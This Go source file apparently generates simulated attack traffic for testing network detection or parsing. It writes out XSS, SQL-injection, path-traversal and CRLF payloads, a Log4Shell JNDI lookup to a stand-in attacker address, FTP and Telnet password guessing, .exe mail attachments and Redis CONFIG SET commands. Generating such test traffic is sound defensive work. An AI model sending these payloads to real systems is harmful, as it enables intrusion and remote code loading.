package main

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"
)

// Who takes part. The visitor comes from outside, the guest was let in.
const (
	visitor = "203.0.113.199"
	guest   = "10.20.1.99"
	shop    = "10.20.12.90"
	files   = "10.20.12.45"
	office  = "10.20.12.10"
	post    = "10.20.12.25"
	store   = "10.20.12.21"
)

// pages asks a shop for everything that hurts, in every part of a request: a scan of paths that are not there, and scripts for other visitors.
func pages(s *stage) error {
	for i, name := range append(short(8000), "<script>alert(1)</script>", "/etc/passwd", "' OR 1=1 --") {
		path := strings.NewReplacer(" ", "%20", "\v", "%0d%0a").Replace(name)
		method := []string{"GET", "POST", "<b>GET</b>", "PUT"}[i%4]
		request := fmt.Sprintf("%s /search/%s?q=%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nReferer: http://evil.example/%s\r\nCookie: a=%s\r\nX-Forwarded-For: %s\r\n\r\n",
			method, path, path, short(200)[i%20], name, path, path, name)
		s.tcp(visitor, shop, 80, up(request), down(fmt.Sprintf(
			"HTTP/1.1 404 %s\r\nServer: %s\r\nContent-Type: %s\r\nContent-Disposition: attachment; filename=\"%s\"\r\nLocation: %s\r\nContent-Length: 2\r\n\r\nno",
			short(100)[i%20], short(300)[(i+1)%20], short(100)[(i+2)%20], strings.ReplaceAll(short(200)[(i+3)%20], `"`, "'"), link)))
		s.wait(400 * time.Millisecond)
	}
	for i := range 40 { // enough of them that a scan is told
		s.tcp(visitor, shop, 80, up(fmt.Sprintf("GET /%s/%d HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: %s\r\n\r\n", strings.ReplaceAll(script, " ", "%20"), i, image)),
			down("HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\nno"))
		s.wait(200 * time.Millisecond)
	}
	s.tcp(visitor, shop, 80, up("GET /?x=1 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://203.0.113.199:1389/"+script+reversed+"}\r\n\r\n"),
		down("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"))
	return nil
}

// guesses tries passwords over FTP and Telnet under names that nobody is called.
func guesses(s *stage) error {
	var talk []turn
	talk = append(talk, down("220 "+script+"\r\n"))
	for _, name := range short(300) {
		talk = append(talk, up("USER "+name+"\r\n"), down("331 "+image+"\r\n"), up("PASS "+command+"\r\n"), down("530 "+vector+"\r\n"))
	}
	talk = append(talk, up("USER "+image+"\r\n"), down("331 go on\r\n"), up("PASS x\r\n"), down("230 in\r\n"))
	for _, name := range short(400) {
		talk = append(talk, up("CWD "+name+"\r\n"), down("250 "+name+"\r\n"), up("RETR "+name+"\r\n"), down("550 "+name+"\r\n"))
	}
	s.tcp(visitor, store, 21, append(talk, up("QUIT\r\n"), down("221 bye\r\n"))...)
	s.wait(time.Second)
	talk = []turn{down("\xff\xfd\x18login: ")}
	for _, name := range short(60) {
		talk = append(talk, up(name+"\r\n"), down("Password: "), up("x\r\n"), down("\r\nLogin incorrect\r\nlogin: "))
	}
	s.tcp(visitor, store, 23, talk...)
	s.wait(time.Second)
	return nil
}

// letters are mails with names, subjects and attachments that hurt.
func letters(s *stage) error {
	talk := []turn{down("220 " + script + "\r\n"), up("EHLO " + image + "\r\n"), down("250-mx\r\n250 AUTH PLAIN LOGIN\r\n"),
		up("AUTH LOGIN\r\n"), down("334 VXNlcm5hbWU6\r\n"), up(base64.StdEncoding.EncodeToString([]byte(vector)) + "\r\n"), down("334 UGFzc3dvcmQ6\r\n"), up("c2VjcmV0\r\n"), down("235 ok\r\n")}
	for _, name := range short(500) {
		from := strings.NewReplacer("<", "", ">", "").Replace(name)
		letter := fmt.Sprintf("Received: from %s by %s\r\nFrom: %s <a@x.example>\r\nTo: <%s@y.example>\r\nSubject: %s\r\nMessage-ID: <%s>\r\nUser-Agent: %s\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n"+
			"--q\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"%s.exe\"\r\n\r\nTVo=\r\n--q--\r\n.\r\n",
			name, name, name, from, name, from, name, strings.ReplaceAll(name[:min(200, len(name))], `"`, "'"))
		talk = append(talk, up("MAIL FROM:<"+from+"@x.example>\r\n"), down("250 a\r\n"), up("RCPT TO:<"+from+"@y.example>\r\n"), down("250 b\r\n"),
			up("DATA\r\n"), down("354 go\r\n"), up(letter), down("250 "+name+"\r\n"))
	}
	s.tcp(guest, post, 25, append(talk, up("QUIT\r\n"), down("221 bye\r\n"))...)
	s.wait(time.Second)
	return nil
}

// shells greet by SSH and SIP, and leave lines with syslog and Redis.
func shells(s *stage) error {
	for i, name := range short(200) {
		server := short(200)[(i+7)%20]
		s.tcp(guest, store, 22, down("SSH-2.0-"+server+"\r\n"), up("SSH-2.0-"+name+"\r\n"))
		s.udp(guest, office, uint16(5060+i), 5060, up(fmt.Sprintf("REGISTER sip:%s SIP/2.0\r\nVia: SIP/2.0/UDP x\r\nFrom: \"%s\" <sip:a@b>\r\nTo: <sip:%s@b>\r\nCall-ID: %s\r\nCSeq: 1 REGISTER\r\nUser-Agent: %s\r\nContent-Length: 0\r\n\r\n",
			strings.ReplaceAll(name, " ", "+"), name, name, name, name)))
		s.udp(guest, office, uint16(30_000+i), 514, up("<34>Oct 11 22:14:15 "+strings.ReplaceAll(name, " ", "_")+" su: "+name))
		s.wait(200 * time.Millisecond)
	}
	var talk []turn
	for _, name := range short(1000) {
		talk = append(talk, up(fmt.Sprintf("*3\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$%d\r\n%s\r\n", len(name), name)), down("-ERR "+name+"\r\n"))
	}
	s.tcp(guest, store, 6379, talk...)
	s.wait(time.Second)
	return nil
}
